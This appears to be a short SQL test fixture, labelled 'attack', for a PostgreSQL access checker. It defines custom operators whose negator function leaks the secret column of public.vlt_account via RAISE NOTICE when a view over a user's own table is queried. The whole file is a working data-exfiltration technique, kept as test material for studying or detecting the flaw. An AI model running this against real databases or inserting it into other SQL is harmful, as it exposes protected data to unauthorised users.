-- Reads a view that negates an own operator whose negator reads.
-- wants: read
-- attack:
CREATE FUNCTION same(int, int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN $1 = $2; END';
CREATE FUNCTION other(int, int) RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN RAISE NOTICE '%', (SELECT max(secret) FROM public.vlt_account); RETURN $1 <> $2; END $$;
CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = same, NEGATOR = !==);
CREATE OPERATOR !== (LEFTARG = int, RIGHTARG = int, FUNCTION = other, NEGATOR = ===);
CREATE VIEW others AS SELECT id FROM mallory_own WHERE NOT (id === 1);
SELECT * FROM others;
